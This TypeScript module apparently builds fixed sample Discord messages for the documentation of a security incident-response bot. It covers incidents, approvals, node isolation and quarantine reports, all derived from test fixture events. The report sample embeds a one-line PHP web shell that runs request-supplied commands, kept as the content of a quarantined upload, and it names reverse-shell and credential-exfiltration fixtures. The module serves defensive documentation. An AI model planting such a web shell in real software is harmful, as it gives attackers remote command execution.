/**
 * The messages pictured in the docs: sample events from test/fixtures/events, triaged with the
 * real triage and playbook config, rendered by the bot's own renderers (src/handlers/render), built
 * the way the handlers build them (handleEvent, handleApprovalRequest, handleApprovalButton,
 * handleReport, handleNotify). Only what a real deployment would fill in from AWS or Kubernetes
 * (an action's result, a user id) is written out here, in the shape the action returns it.
 *
 * Everything is fixed (times, ids, tokens), so the same code and the same renderers give the
 * same payloads: test/docs/docsImages.test.ts compares them with the ones the images were made from.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { renderApprovalMessage, type ApprovalMessageInput } from '../../../src/handlers/render/approvalMessage.js';
import { renderDecisionOnMessage } from '../../../src/handlers/render/decisionOnMessage.js';
import { renderIncidentMessage } from '../../../src/handlers/render/incidentMessage.js';
import { renderNotifyAlert } from '../../../src/handlers/render/notifyMessage.js';
import type { RenderedMessage } from '../../../src/handlers/render/payload.js';
import { renderReport } from '../../../src/handlers/render/reportMessage.js';
import { incidentIdFor } from '../../../src/stores/incidentStore.js';
import { approvalIdFor } from '../../../src/handlers/approvalIdFor.js';
import { executionNameFor } from '../../../src/handlers/executionName.js';
import { planned, succeeded } from '../../../src/pipeline/actions/types.js';
import { evidenceKey } from '../../../src/pipeline/evidence/evidenceKey.js';
import { buildIncidentRecord, incidentKey } from '../../../src/pipeline/incident/incidentRecord.js';
import { buildPlaybookInput, incidentOrStateSchema } from '../../../src/pipeline/incident/playbookState.js';
import { loadPlaybookConfig } from '../../../src/pipeline/triage/playbookConfig.js';
import { triageEvent } from '../../../src/pipeline/triage/triageEvent.js';
import type { TriageResult } from '../../../src/pipeline/triage/types.js';

/** How the page shows what Discord shows per reader: the clock and user names. */
export interface SampleView {
  /** "Now" for relative times (`<t:…:R>`) and the message header. */
  now: string;
  /** Display names of the user ids mentioned (`<@id>`). */
  users: Record<string, string>;
}

export interface DocsSample {
  /** File name without extension: `docs/images/<name>.png` and `<name>.json`. */
  name: string;
  /** What the picture shows (alt text). */
  alt: string;
  /** Which fixture the event came from. */
  event: string;
  /** The exact payload the bot posts (or edits the message to). */
  payload: RenderedMessage;
  view: SampleView;
}

const FIXTURES = fileURLToPath(new URL('../../../test/fixtures/events/', import.meta.url));
const BUCKET = 'sentinel-evidence-111122223333-ap-northeast-2';
/** A responder (Discord user id) and the name the page shows for them. */
const RESPONDER = '284169335425859584';
const USERS = { [RESPONDER]: 'alice' };

function loadEvent(file: string): unknown {
  return JSON.parse(readFileSync(`${FIXTURES}${file}`, 'utf8')) as unknown;
}

function triaged(file: string): { event: unknown; triage: TriageResult } {
  const event = loadEvent(file);
  const outcome = triageEvent(event, loadPlaybookConfig());
  if (!outcome.ok) throw new Error(`${file} does not triage: ${outcome.error}`);
  return { event, triage: outcome.result };
}

/** The incident and execution the bot derives from the first event of a window (handleEvent). */
function incidentOf(triage: TriageResult, windowStart: Date) {
  return { incidentId: incidentIdFor(triage.dedupeKey, windowStart), executionName: executionNameFor(triage.dedupeKey, windowStart) };
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** A reverse shell (block-egress): the incident message while its playbook runs, seen three times. */
function incidentSample(): DocsSample {
  const file = 'fluentbit-reverse-shell.json';
  const { triage } = triaged(file);
  const first = new Date('2026-11-20T03:14:07.123Z');
  const { incidentId, executionName } = incidentOf(triage, first);
  const payload = renderIncidentMessage({
    incidentId,
    triage,
    status: 'running',
    observe: false,
    repeats: { count: 3, firstSeen: first.toISOString(), lastSeen: '2026-11-20T03:15:41.000Z' },
    executionName,
  });
  return { name: 'incident', alt: 'Incident message: a critical reverse shell, its target, IoC, command line and plan', event: file, payload, view: { now: '2026-11-20T03:16:00.000Z', users: USERS } };
}

/** An executable run from the upload directory (approval): what the team is asked, with the isolate-node preflight. */
function approvalInput(): { file: string; input: ApprovalMessageInput } {
  const file = 'fluentbit-artifact-exec.json';
  const { triage } = triaged(file);
  const first = new Date('2026-11-20T03:14:07.123Z');
  const { incidentId } = incidentOf(triage, first);
  const requestedAt = new Date('2026-11-20T03:14:09.000Z');
  const node = triage.target.node ?? 'unknown';
  const proposedInput = { node };
  const instanceId = 'i-0a1b2c3d4e5f60718';
  const group = 'sentinel-isolation-vpc-0f1e2d3c';
  // isolate-node's dry run (planned), as handleApprovalRequest runs it before posting.
  const preflight = planned(`would isolate instance ${instanceId}: snapshot 2 volume(s), move it to standby in eks-web-2026110301, put 1 network interface(s) on ${group} (would create)`, {
    node,
    instanceId,
    vpcId: 'vpc-0f1e2d3c',
    stopRequested: false,
    isolationGroup: { groupId: null, name: group, source: 'would create' },
    snapshots: [
      { volumeId: 'vol-0c1d2e3f4a5b6c7d8', deviceName: '/dev/xvda', snapshotId: null, reused: false },
      { volumeId: 'vol-0d2e3f4a5b6c7d8e9', deviceName: '/dev/xvdba', snapshotId: null, reused: false },
    ],
    asg: { groupName: 'eks-web-2026110301', lifecycleStateBefore: 'InService', standby: 'would enter' },
    securityGroups: [{ networkInterfaceId: 'eni-0a9b8c7d6e5f40312', before: ['sg-0aa11bb22cc33dd44'], after: [`${group} (would create)`] }],
    stopped: false,
    destroysMemory: false,
    record: { location: `s3://${BUCKET}/isolations/${instanceId}.json`, state: 'would create' },
    notes: [],
  });
  return {
    file,
    input: {
      approvalId: approvalIdFor('docs-sample-task-token-artifact-exec'),
      incidentId,
      triage,
      // The state machine sends no summary: the bot writes the action and its input (handleApprovalRequest).
      proposedAction: { action: 'isolate-node', summary: `isolate-node ${JSON.stringify(proposedInput)}`.slice(0, 300) },
      preflight,
      deadline: new Date(requestedAt.getTime() + 3600 * 1000),
      requiredApprovals: 1,
      approvals: [],
    },
  };
}

function approvalSample(): DocsSample {
  const { file, input } = approvalInput();
  return {
    name: 'approval',
    alt: 'Approval request: the proposed action, its preflight plan, the deadline, Allow and Block buttons',
    event: file,
    payload: renderApprovalMessage(input),
    view: { now: '2026-11-20T03:16:00.000Z', users: USERS },
  };
}

/** The same approval once a responder chose Block: the bot edits the posted message (handleApprovalButton). */
function decidedSample(): DocsSample {
  const { file, input } = approvalInput();
  const posted = renderApprovalMessage(input);
  const payload = renderDecisionOnMessage({ approvalId: input.approvalId, embeds: posted.embeds, decision: 'block', by: [`discord:${RESPONDER}`], at: new Date('2026-11-20T03:17:12.000Z') });
  return { name: 'approval-decided', alt: 'The approval after a responder chose Block: the decision first, the buttons disabled', event: file, payload, view: { now: '2026-11-20T03:17:30.000Z', users: USERS } };
}

/** A web shell moved into the upload directory (file-artifact): the report that replaces the incident message. */
function reportSample(): DocsSample {
  const file = 'fluentbit-upload-move.json';
  const { event, triage } = triaged(file);
  const first = new Date('2026-11-20T03:14:07.123Z');
  const { incidentId, executionName } = incidentOf(triage, first);
  const path = triage.artifact?.path ?? '/var/www/html/hackable/uploads/shell.php';
  const name = path.slice(path.lastIndexOf('/') + 1);
  const content = "<?php if(isset($_REQUEST['cmd'])){ system($_REQUEST['cmd']); } ?>\n";
  const hash = sha256(content);
  const pod = { namespace: triage.target.namespace ?? 'dvwa', pod: triage.target.pod ?? 'dvwa', container: triage.target.container ?? 'dvwa' };
  // The wording extract-file and quarantine-file use for the file they handled.
  const what = `${JSON.stringify(path)} in ${pod.namespace}/${pod.pod} (container ${pod.container})`;
  const key = evidenceKey(incidentId, hash, path);
  const location = `s3://${BUCKET}/${key}`;
  const collectedAt = '2026-11-20T03:14:12.000Z';
  const to = `/var/lib/sentinel-quarantine/quarantine_${hash.slice(0, 12)}_${name}`;
  const state = {
    ...buildPlaybookInput({
      incidentId,
      executionName,
      startTime: first.toISOString(),
      triage,
      event,
      settings: { approvalTimeoutSeconds: 3600, defaultDecision: 'allow' },
      now: first,
    }),
    // What the bot sent back for each step (SendTaskSuccess), in the shape the actions return.
    results: {
      extractFile: {
        action: 'extract-file',
        ...succeeded(`extracted ${what} to ${location} (${content.length} bytes, sha256 ${hash.slice(0, 12)}…)`, {
          ...pod,
          path,
          bucket: BUCKET,
          key,
          location,
          sha256: hash,
          size: content.length,
          alreadyStored: false,
          evidence: { kind: 'file', location, sha256: hash, size: content.length, collector: 'sentinel', collectedAt, source: { ...pod, path } },
          notes: [],
        }),
      },
      quarantineFile: {
        action: 'quarantine-file',
        ...succeeded(`quarantined ${what} at ${to} (mode 000, sha256 ${hash.slice(0, 12)}…)`, { ...pod, from: path, to, sha256: hash, size: content.length, mode: '000', notes: [] }),
      },
      recordIncident: {
        action: 'record-incident',
        ...succeeded(`incident recorded at s3://${BUCKET}/${incidentKey(first.toISOString(), executionName)} with 1 evidence item(s)`, {
          bucket: BUCKET,
          key: incidentKey(first.toISOString(), executionName),
          location: `s3://${BUCKET}/${incidentKey(first.toISOString(), executionName)}`,
          sha256: sha256(`record of ${incidentId}`),
          evidenceCount: 1,
        }),
      },
    },
  };
  // As handleReport: the playbook state becomes the incident record, the report shows it.
  const incident = incidentOrStateSchema.parse(state);
  const record = buildIncidentRecord(incident, 'sentinel', new Date('2026-11-20T03:14:15.000Z'));
  const payload = renderReport({ incident: record, record: { location: `s3://${BUCKET}/${incidentKey(first.toISOString(), executionName)}` } });
  return { name: 'report', alt: 'Report: each action with its result, the evidence with its hash, where the record is', event: file, payload, view: { now: '2026-11-20T03:16:00.000Z', users: USERS } };
}

/** A GuardDuty finding on an access key (notify): the alert only. */
function notifySample(): DocsSample {
  const file = 'guardduty-iam-credential-exfiltration.json';
  const { triage } = triaged(file);
  return { name: 'notify', alt: 'Notify alert: a GuardDuty finding on instance credentials used outside AWS', event: file, payload: renderNotifyAlert(triage), view: { now: '2026-11-20T03:21:00.000Z', users: USERS } };
}

/** Every pictured message, in the order the docs show them. */
export function buildDocsSamples(): DocsSample[] {
  return [incidentSample(), approvalSample(), decidedSample(), reportSample(), notifySample()];
}
